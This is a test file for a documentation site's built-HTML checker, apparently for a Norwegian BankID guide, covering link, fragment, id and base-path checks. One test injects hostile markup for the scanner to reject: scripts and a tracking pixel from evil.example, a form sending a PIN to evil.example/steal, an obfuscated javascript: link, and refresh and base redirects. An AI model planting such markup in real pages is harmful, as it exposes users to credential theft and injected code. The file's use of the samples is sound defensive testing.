import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { checkBuiltSite, parseBuiltPage, readBuiltPages } from '../../src/lib/checks/built.ts';
import { MarkupScanner } from '../../src/lib/checks/scan.ts';
import { runBuiltChecks, runSourceChecks } from '../../src/lib/checks/index.ts';
import { loadProject, walk } from '../../src/lib/checks/project.ts';
import { fixture, located, removeFixtures, today } from './helpers.ts';

afterAll(removeFixtures);

/** The built-site checks on a fixture's dist/ (hand-written pages shaped like the layout's). */
const checkBuilt = async (root: string, base = '/') => checkBuiltSite(await loadProject(root), join(root, 'dist'), { base });

describe('built-site checks', () => {
  it('find nothing wrong with the base site', async () => {
    expect(await checkBuilt(fixture('built-base'))).toEqual([]);
  });

  const cases: [string, string, string][] = [
    ['built-fragment', 'src/content/guides/nb/index.mdx:12:23  link/fragment', '"#tast-inn-kode" is not a heading or step on /bankid/ (did you mean "#tast-inn-koden"?)'],
    ['built-missing-page', 'src/content/guides/nb/index.mdx:11:12  link/missing-page', '"/bankd/" is not a page of the site (did you mean "/bankid/"?)'],
    // Not in the page's MDX: the route that renders the page, whose layout or components wrote it.
    ['built-layout-link', 'src/pages/[...path].astro:1:1  link/missing-page', '"/en/bankd/" is not a page of the site (did you mean "/en/bankid/"?) (on /en/bankid/)'],
    ['built-missing-file', 'src/pages/[...path].astro:1:1  link/missing-file', '"/favicn.svg" (<link href>) is not in the built site (on /)'],
    // A step's id that the layout uses too (<main id="main">): found where the MDX gives it.
    ['built-duplicate-id', 'src/content/guides/nb/bankid.mdx:21:40  html/duplicate-id', 'two elements on /bankid/ have id "main"'],
  ];
  for (const [name, line, words] of cases) {
    it(`${name}: ${line}`, async () => {
      const problems = await checkBuilt(fixture('built-base', name));
      expect(located(problems)).toEqual([line]);
      expect(problems[0]?.message).toContain(words);
    });
  }

  it('map a broken link written twice in the MDX to both places (the layout writing it too is the same mistake)', async () => {
    const problems = await checkBuilt(fixture('built-base', 'built-same-link-twice'));
    expect(located(problems).sort()).toEqual(['src/content/guides/nb/index.mdx:11:12  link/fragment', 'src/content/guides/nb/index.mdx:12:23  link/fragment']);
  });

  it('never guesses from class names: a renamed class leaves every problem where it was', async () => {
    const root = fixture('built-base', 'built-same-link-twice');
    const before = located(await checkBuilt(root)).sort();
    for (const file of walk(join(root, 'dist')).filter((f) => f.endsWith('.html'))) {
      writeFileSync(file, readFileSync(file, 'utf8').replaceAll('class="', 'class="renamed-'));
    }
    expect(located(await checkBuilt(root)).sort()).toEqual(before);
  });


  it('report a link the layout breaks on every page once, naming the pages', async () => {
    const root = fixture('built-base');
    for (const file of walk(join(root, 'dist')).filter((f) => f.endsWith('.html'))) {
      writeFileSync(file, readFileSync(file, 'utf8').replace('class="skip-link" href="#main"', 'class="skip-link" href="#innhold"'));
    }
    const problems = await checkBuilt(root);
    expect(located(problems)).toEqual(['src/pages/[...path].astro:1:1  link/fragment']);
    expect(problems[0]?.message).toMatch(/"#innhold" is not a heading or step on \/.* \(on .* and 3 other pages\)/);
  });

  it('check pages read while the search index and PDFs were made against the files there at the end', async () => {
    const root = fixture('built-base', 'built-missing-file');
    const dist = join(root, 'dist');
    const read = readBuiltPages(dist, '/');
    // A later build step writes the file a page links to, and a page of its own with a broken link.
    writeFileSync(join(dist, 'favicn.svg'), '<svg xmlns="http://www.w3.org/2000/svg"/>');
    mkdirSync(join(dist, 'en/bankid-copy'), { recursive: true });
    cpSync(join(fixture('built-base', 'built-layout-link'), 'dist/en/bankid/index.html'), join(dist, 'en/bankid-copy/index.html'));
    const problems = await checkBuiltSite(await loadProject(root), dist, { base: '/' }, read);
    expect(located(problems)).toEqual(['src/layouts/Base.astro:1:1  link/missing-page']);
    expect(problems[0]?.message).toContain('(on /en/bankid-copy/)');
  });

  it('work on a site built under a base path', async () => {
    const root = fixture('built-base', 'built-fragment');
    for (const file of walk(join(root, 'dist')).filter((f) => f.endsWith('.html'))) {
      writeFileSync(file, readFileSync(file, 'utf8').replace(/(href|src)="\//g, '$1="/veiledning/'));
    }
    const problems = await checkBuilt(root, '/veiledning/');
    expect(located(problems)).toEqual(['src/content/guides/nb/index.mdx:12:23  link/fragment']);
  });

  it('report a link that leaves out the base path of a site built under one', async () => {
    const root = fixture('built-base');
    for (const file of walk(join(root, 'dist')).filter((f) => f.endsWith('.html'))) {
      writeFileSync(file, readFileSync(file, 'utf8').replace(/(href|src)="\//g, '$1="/veiledning/'));
    }
    const index = join(root, 'dist/index.html');
    // Written without withBase(): fine in development at /, a dead link once published at /veiledning/.
    writeFileSync(index, readFileSync(index, 'utf8').replace('</main>', '<p><a href="/bankid/">BankID</a> <a href="/veiledning">Start</a></p></main>'));
    const problems = await checkBuilt(root, '/veiledning/');
    expect(problems.map((p) => `${p.rule} ${p.message}`)).toEqual([
      expect.stringMatching(/^link\/missing-page "\/bankid\/" is outside the site's base \/veiledning\//),
    ]);
  });

  it('resolve a fragment-only link on the page it is on, also beside an index page in the same folder', async () => {
    const root = fixture('built-base');
    const index = join(root, 'dist/index.html');
    writeFileSync(index, readFileSync(index, 'utf8').replace('</main>', '<p><a href="#bare-404">?</a></p></main>'));
    writeFileSync(join(root, 'dist/404.html'), '<!doctype html><html lang="nb"><body><main id="main"><h1 id="bare-404">Fant ikke siden</h1><a href="#bare-404">Til toppen</a></main></body></html>');
    const problems = await checkBuilt(root);
    expect(problems.map((p) => p.message)).toEqual([expect.stringMatching(/^"#bare-404" is not a heading or step on \/$/)]);
  });

  it("report a stylesheet's url() that names a missing file where the styles name it", async () => {
    const root = fixture('built-base');
    mkdirSync(join(root, 'src/styles'), { recursive: true });
    writeFileSync(join(root, 'src/styles/fonts.css'), '/* The font of the guide. */\n@font-face {\n  font-family: Guide;\n  src: url(/fonts/guide.woff2);\n}\n');
    mkdirSync(join(root, 'dist/_astro'), { recursive: true });
    writeFileSync(join(root, 'dist/_astro/Base.abc123.css'), '@font-face{font-family:Guide;src:url(/fonts/guide.woff2)}body{background:url("data:image/png;base64,AA==")}');
    const problems = await checkBuilt(root);
    expect(located(problems)).toEqual(['src/styles/fonts.css:4:19  link/missing-file']);
    expect(problems[0]?.message).toContain('"/fonts/guide.woff2" is not in the built site');
  });

  it('accept a link to a page without its final slash (the server redirects it) and report a missing image', async () => {
    const root = fixture('built-base');
    const index = join(root, 'dist/index.html');
    writeFileSync(index, readFileSync(index, 'utf8').replace('</main>', '<p><a href="/bankid">BankID</a><img src="/screenshots/velg-feil.png" alt=""></p></main>'));
    const problems = await checkBuilt(root);
    expect(problems.map((p) => `${p.rule} ${p.message}`)).toEqual([expect.stringMatching(/^link\/missing-file "\/screenshots\/velg-feil.png" \(<img src>\) is not in the built site/)]);
  });

  it('leave out what the source checks already reported', async () => {
    const root = fixture('built-base', 'built-missing-page');
    const source = await runSourceChecks(root, { now: today, translations: false });
    expect(located(source.problems)).toEqual(['src/content/guides/nb/index.mdx:11:12  link/missing-page']);
    expect(await runBuiltChecks(source.project, join(root, 'dist'), { base: '/' }, source.problems)).toEqual([]);
  });
});

describe('the last-line scan of the built HTML', () => {
  it('refuses markup that runs code or reaches another host, wherever it came from', async () => {
    const root = fixture('built-base');
    const index = join(root, 'dist/index.html');
    const markup = [
      '<script>alert(1)</script>',
      '<script src="https://cdn.evil.example/x.js"></script>',
      '<script type="module" src="/_astro/search.abc.js"></script>',
      '<p onmouseover="alert(1)" style="color:red">x</p>',
      '<img src="https://evil.example/pixel.png" alt="">',
      '<form action="https://evil.example/steal"><input name="pin"></form>',
      '<a href=" JAVA&#x53;CRIPT:alert(1)">x</a>',
      '<meta http-equiv="Refresh" content="0;url=https://evil.example/">',
      '<base href="https://evil.example/">',
      '<a href="https://www.bankid.no/">a link to follow is fine</a>',
    ].join('');
    writeFileSync(index, readFileSync(index, 'utf8').replace('</article>', `${markup}</article>`));
    mkdirSync(join(root, 'dist/_astro'), { recursive: true });
    writeFileSync(join(root, 'dist/_astro/search.abc.js'), '');
    const problems = await checkBuilt(root);
    expect(problems.map((p) => p.rule).sort()).toEqual([
      'built/element',
      'built/element',
      'built/event-handler',
      'built/foreign-form',
      'built/foreign-resource',
      'built/foreign-resource',
      'built/script',
      'built/script',
      'built/script-url',
      'built/style',
    ]);
    // Not in the page's MDX: reported at the route that renders the page.
    expect(new Set(problems.map((p) => p.file))).toEqual(new Set(['src/pages/[...path].astro']));
  });

  it('reports an address the page\'s MDX wrote at its line', async () => {
    const root = fixture('built-base');
    const source = join(root, 'src/content/guides/nb/index.mdx');
    writeFileSync(source, `${readFileSync(source, 'utf8')}\n![Logo](https://evil.example/logo.png)\n`);
    const index = join(root, 'dist/index.html');
    writeFileSync(index, readFileSync(index, 'utf8').replace('</article>', '<p><img src="https://evil.example/logo.png" alt="Logo"></p></article>'));
    // The print document that holds the page: the same line, named once for both pages.
    mkdirSync(join(root, 'dist/print'), { recursive: true });
    writeFileSync(join(root, 'dist/print/index.html'), '<!doctype html><html lang="nb"><body><main id="main"><p><img src="https://evil.example/logo.png" alt="Logo"></p></main></body></html>');
    const problems = await checkBuilt(root);
    expect(located(problems)).toEqual(['src/content/guides/nb/index.mdx:14:9  built/foreign-resource']);
  });
});

describe('parseBuiltPage', () => {
  it('reads ids, named anchors (counting an id written twice) and every URL with its tag and attribute', () => {
    const page = parseBuiltPage(
      '<main id="m"><a name="old"></a><p id="m"></p><a href="/a/#x">a</a><img src="/i.png" srcset="/i.1x.webp 1x, /i.2x.webp 2x"><form action="/sok/"></form></main>',
      '/',
      'index.html',
      new MarkupScanner('/'),
    );
    expect([...page.ids]).toEqual([['m', 2], ['old', 1]]);
    expect(page.refs.map((r) => `${r.tag} ${r.attribute} ${r.value}`)).toEqual([
      'a href /a/#x',
      'img src /i.png',
      'img srcset /i.1x.webp',
      'img srcset /i.2x.webp',
      'form action /sok/',
    ]);
  });
});
